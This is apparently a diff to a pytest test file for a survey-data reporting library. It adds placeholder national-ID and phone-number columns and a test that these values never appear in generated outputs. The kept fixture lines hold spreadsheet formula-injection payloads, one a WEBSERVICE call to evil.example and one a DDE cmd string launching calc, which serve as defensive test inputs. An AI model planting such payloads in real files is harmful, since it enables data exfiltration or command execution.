@@ -11,6 +11,7 @@ from html.parser import HTMLParser
 from pathlib import Path
 from xml.etree import ElementTree
 
+import pandas as pd
 import pytest
 from openpyxl import load_workbook
 
@@ -51,6 +52,10 @@ UNREADABLE = {
     "activities": {"held_on": '=WEBSERVICE("http://evil.example")'},
     "funding": {"planned": "-2+3+cmd|' /C calc'!A0"},
 }
+#: Columns that offices keep and the codebook does not know, in every file, with the marks by which
+#: their cells are found again.
+PRIVATE = {"Số CCCD": "0620990{:05}", "Điện thoại": "09{:02}77665544"}
+PRIVATE_MARK = re.compile(r"0620990\d{5}|\d{2}77665544")
 #: What stands in these texts and in nothing that the library writes by itself.
 MARKS = (TRAP, "evil.example", "calc", "alert(", "cmd", "WEBSERVICE", "1+1", "SUM(1")
 #: A village's code becomes a file name, a notebook's parameter, a link and a cell.
@@ -74,7 +79,8 @@ def poison(raw: Path) -> None:
         table = "survey" if path.parent.name == "survey" else path.stem
         with path.open(encoding="utf-8-sig", newline="") as file:
             rows = list(csv.DictReader(file))
-        for row in rows:
+        for at, row in enumerate(rows):
+            row |= {name: text.format(at) for name, text in PRIVATE.items()}
             row |= {name: text for name, text in TYPED.get(table, {}).items() if name in row}
             if row.get("village") == "T2":
                 row["village"] = CODE
@@ -146,6 +152,27 @@ def test_no_text_is_run_and_nothing_is_written_elsewhere(workplace: Path) -> Non
     names = [path.name for path in (workplace / "reports" / "2024Q3").iterdir()]
     names += [path.name for path in (workplace / "forms").rglob("*")]
     assert all(re.fullmatch(r"[\w.-]+", name) for name in names), names
+
+
+def texts_of(path: Path) -> Iterator[str]:
+    """Give all that stands in a file, unpacked."""
+    if zipfile.is_zipfile(path):
+        with zipfile.ZipFile(path) as packed:
+            yield from (packed.read(name).decode("latin-1") for name in packed.namelist())
+    elif path.suffix == ".parquet":
+        yield pd.read_parquet(path).astype("str").to_csv()
+    else:
+        yield path.read_bytes().decode("latin-1")
+
+
+@pytest.mark.slow
+def test_no_identity_or_telephone_number_is_written(workplace: Path) -> None:
+    raw = workplace / "data" / "raw"
+    files = [path for path in workplace.rglob("*") if path.is_file()]
+    written = [path for path in files if raw not in path.parents]
+    assert {".xlsx", ".docx", ".html", ".parquet", ".csv"} <= {path.suffix for path in written}
+    with_numbers = {p for p in files if any(map(PRIVATE_MARK.search, texts_of(p)))}
+    assert with_numbers == set(raw.rglob("*.csv"))
 
 
 @pytest.mark.slow
